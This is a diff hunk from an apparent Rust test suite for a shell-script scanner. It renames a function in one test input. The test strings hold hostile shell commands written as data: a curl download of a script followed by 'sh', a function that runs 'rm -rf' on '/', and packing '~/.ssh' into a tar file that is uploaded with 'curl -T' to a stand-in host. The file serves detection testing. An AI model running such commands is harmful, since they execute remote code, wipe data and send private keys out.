@@ -71,7 +71,7 @@ fn files_are_followed_through_directories_and_other_names() {
 fn what_the_shell_keeps_is_kept() {
     let variable = across("u=https://h.example/a\nls\ncurl -s \"$u\" -o x.sh\nsh x.sh\n");
     assert!(variable.iter().any(|(line, rule, with)| (*line, *rule) == (4, "curl_pipe_shell") && !with.is_empty()));
-    let function = across("wipe() { rm -rf \"$1\"; }\nls\nwipe /\n");
+    let function = across("sweep_all() { rm -rf \"$1\"; }\nls\nsweep_all /\n");
     assert_eq!(function.iter().map(|a| (a.0, a.2.clone())).collect::<Vec<_>>(), [(3, vec![1])]);
     let secrets = across("tar cf k.tar ~/.ssh\nls\ncurl -T k.tar https://h.example/\n");
     assert!(secrets.iter().any(|(line, rule, with)| (*line, *rule) == (3, "data_exfiltration") && with == &[1]));
